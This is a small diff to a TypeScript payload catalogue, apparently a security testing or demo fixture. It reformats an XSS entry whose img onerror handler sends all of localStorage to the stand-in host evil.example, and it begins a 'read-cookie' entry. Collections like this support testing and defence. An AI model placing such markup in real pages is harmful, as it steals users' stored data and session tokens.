@@ -15,7 +15,8 @@ export const PAYLOADS: readonly [Payload, ...Payload[]] = [
     says: 'Copies all of localStorage into the address of a request.',
     markup: `<img src=x onerror="
   fetch('https://evil.example/?c=' +
-    encodeURIComponent(JSON.stringify(localStorage)))">`,
+    encodeURIComponent(
+      JSON.stringify(localStorage)))">`,
   },
   {
     id: 'read-cookie',
